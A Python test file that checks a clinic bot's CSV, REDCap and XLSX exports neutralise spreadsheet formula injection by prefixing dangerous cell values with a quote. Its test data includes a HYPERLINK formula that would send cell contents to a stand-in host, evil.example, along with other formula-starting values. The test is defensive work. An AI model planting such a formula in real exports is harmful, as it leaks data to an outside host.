"""Every text cell of every spreadsheet-bound export is neutralised (issue 15): study ids,
names, cohorts and timepoints typed as "=HYPERLINK(...)", "+1", "-1" or "@SUM" stay text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import openpyxl

from bot.clinic.exports.csv_long import export_responses_csv
from bot.clinic.exports.csv_wide import export_wide_csv
from bot.clinic.exports.records import ExportFilter
from bot.clinic.exports.redcap import export_redcap
from bot.clinic.exports.xlsx import export_xlsx
from tests.exports_support import (
    add_cohort,
    add_patient,
    complete_survey,
    dvprs_answers,
    make_app,
)
from tests.support import FakeClock

T0 = datetime(2026, 9, 7, 15, 0, tzinfo=UTC)
HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_NAME = "@SUM(1+1)"
HOSTILE_COHORT = "-cohort"
HOSTILE_TIMEPOINT = "+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
WITH_NAMES = ExportFilter(with_names=True)


def test_no_text_cell_of_any_export_can_start_a_formula(sqlite_url: str, clock: FakeClock) -> None:
    app = make_app(sqlite_url, clock)
    try:
        add_patient(app, HOSTILE_ID, name=HOSTILE_NAME)
        add_cohort(app, HOSTILE_COHORT, [HOSTILE_ID], date(2026, 9, 7))
        complete_survey(app, HOSTILE_ID, "dvprs", dvprs_answers(6), when=T0, timepoint="+1")
        for write in (export_responses_csv, export_wide_csv, export_redcap):
            out = io.StringIO()
            assert write(app.db, out, WITH_NAMES) >= 1
            rows = list(csv.reader(io.StringIO(out.getvalue())))
            cells = [c for row in rows[1:] for c in row]
            dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
            assert dangerous == [], (write.__name__, dangerous)
            assert "'" + HOSTILE_ID in cells, write.__name__
            if write is not export_redcap:  # REDCap rows carry the id and values only
                assert "'" + HOSTILE_NAME in cells and "'" + HOSTILE_TIMEPOINT in cells
        wide = list(csv.DictReader(io.StringIO(_text(export_wide_csv, app))))
        assert wide[0]["cohort"] == "'" + HOSTILE_COHORT
        out_bytes = io.BytesIO()
        assert export_xlsx(app.db, out_bytes, WITH_NAMES) == 1
        wb = openpyxl.load_workbook(io.BytesIO(out_bytes.getvalue()))
        for sheet in wb.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(FORMULA_STARTS), cell.value
        data = [c.value for c in wb["dvprs"][2]]
        assert "'" + HOSTILE_ID in data and "'" + HOSTILE_NAME in data
        assert 6 in data  # numbers stay numbers
    finally:
        app.db.dispose()


def _text(write: object, app: object) -> str:
    out = io.StringIO()
    write(app.db, out, WITH_NAMES)  # type: ignore[attr-defined,operator]
    return out.getvalue()
